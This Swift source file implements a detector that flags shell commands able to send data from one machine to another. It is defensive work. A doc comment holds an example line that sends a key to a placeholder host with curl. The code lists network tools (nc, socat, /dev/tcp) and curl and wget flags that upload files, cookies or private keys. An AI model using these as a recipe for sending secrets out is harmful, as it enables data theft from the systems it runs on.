/// What a command that only reads could carry away: it asks another machine, and says there what it found on this one.
///
/// `curl "http://host/?x=$KEY"` changes nothing, and tells the host the key. Nobody has to be asked what a command looks
/// at; whoever lets it talk to others with what it found has to be.
package enum ShellOutgoing {
  /// Programs that speak to whom their words name.
  private static let clients: Set<String> = [
    "curl", "wget", "http", "https", "httpie", "xh", "dig", "host", "nslookup", "drill", "delv", "ping", "ping6",
    "traceroute", "traceroute6", "tracepath", "mtr", "nc", "ncat", "netcat", "telnet", "openssl", "getent", "git",
    "ssh",
    "whois", "grpcurl", "websocat", "socat", "nmap",
  ]
  /// Programs that carry our own credentials where such an option says.
  private static let redirected: Set<String> = ["kubectl", "oc", "helm", "aws", "docker", "podman", "vault", "consul"]
  private static let redirections = [
    "--server", "--kubeconfig", "--token", "--endpoint", "--host", "-H", "-s", "-address", "--address", "--http-addr",
  ]
  /// Programs that make words of what they read.
  private static let feeders: Set<String> = [
    "xargs", "parallel", "read", "mapfile", "readarray", "getopts", "eval", "source", ".",
  ]

  /// True when the words of a looking command could take something of this machine to another one. `isGiven` tells the
  /// variables whose values a person gave, or the runbook itself: those it may tell.
  package static func carries(_ command: Command, isGiven: (String) -> Bool) -> Bool {
    let names = command.programs.map { $0.split(separator: "/").last.map(String.init) ?? $0 }
    let words = command.script.split(whereSeparator: \.isWhitespace)
    if names.contains(where: redirected.contains),
      words.contains(where: { word in redirections.contains { word == $0 || word.hasPrefix($0 + "=") } })
    {
      return true
    }
    let used = names.filter(clients.contains)
    if used.isEmpty, !command.script.contains("/dev/tcp/"), !command.script.contains("/dev/udp/") { return false }
    if names.contains(where: feeders.contains) { return true }
    if used.contains(where: { program in words.contains { readsFile($0, program) } }) { return true }
    return expands(command, isGiven: isGiven)
  }

  /// True when something of its text becomes what only this machine knows: substitutions, other variables, files.
  private static func expands(_ command: Command, isGiven: (String) -> Bool) -> Bool {
    let bytes = Array(
      command.script.replacing("</dev/null", with: "").replacing("< /dev/null", with: "").utf8)
    var i = 0
    while i < bytes.count {
      switch bytes[i] {
      case UInt8(ascii: "`"), UInt8(ascii: "<"), UInt8(ascii: "*"): return true
      case UInt8(ascii: "$"):
        var start = i + 1
        let isBraced = start < bytes.count && bytes[start] == UInt8(ascii: "{")
        if isBraced { start += 1 }
        var end = start
        while end < bytes.count,
          Byte.isLetter(bytes[end]) || Byte.isDigit(bytes[end]) || bytes[end] == UInt8(ascii: "_")
        {
          end += 1
        }
        let name = String(decoding: bytes[start..<end], as: UTF8.self)
        if name.isEmpty || isBraced && (end >= bytes.count || bytes[end] != UInt8(ascii: "}")) { return true }
        if command.sets.contains(name) || !isGiven(name) { return true }
        i = end
      default: break
      }
      i += 1
    }
    return false
  }

  /// True for a word by which the program sends what stands in a file.
  private static func readsFile(_ word: Substring, _ program: String) -> Bool {
    let long: [String]
    let short: String
    switch program {
    case "curl", "xh", "http", "https", "httpie":
      if word.contains("@") { return true }
      long = [
        "--config", "--netrc", "--cookie", "--cert", "--key", "--upload", "--form", "--data", "--json", "--url-query",
      ]
      short = "KnbETFd"
    case "wget":
      long = ["--input-file", "--load-cookies", "--config", "--post", "--body", "--certificate", "--private-key"]
      short = "i"
    case "dig", "delv", "drill": (long, short) = ([], "fk")
    case "openssl": (long, short) = (["-cert", "-key", "-pass"], "")
    default: return false
    }
    if long.contains(where: { word.hasPrefix($0) }) { return true }
    return word.hasPrefix("-") && !word.hasPrefix("--") && word.contains { short.contains($0) }
  }
}
